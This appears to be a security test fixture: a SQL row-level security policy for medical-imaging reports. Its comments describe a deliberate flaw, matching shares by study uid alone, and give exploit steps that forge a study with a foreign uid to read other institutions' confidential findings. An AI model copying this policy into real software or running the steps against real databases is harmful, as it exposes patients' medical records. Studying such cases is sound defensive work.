-- The reports' policy joins shares by the uid alone: a share of one's own study with that uid opens foreign
-- reports.
-- about: reports, reports_shared, study_shares
-- as: hf_darkroom_app
-- exploit: SET pacs.institution = '100';
-- exploit: INSERT INTO pacs.studies VALUES (100, '1.2.200.1', 'M1', 'Copy', '2024-01-01');
-- exploit: INSERT INTO pacs.study_shares VALUES (100, '1.2.200.1', 100, '2099-01-01');
-- exploit: SELECT findings FROM pacs.reports;
-- shows: Road-secret finding
CREATE POLICY reports_shared ON pacs.reports FOR SELECT
  USING (EXISTS (SELECT 1 FROM pacs.study_shares s
    WHERE s.study_uid = reports.study_uid AND s.shared_with = pacs.me() AND s.expires_on >= CURRENT_DATE));
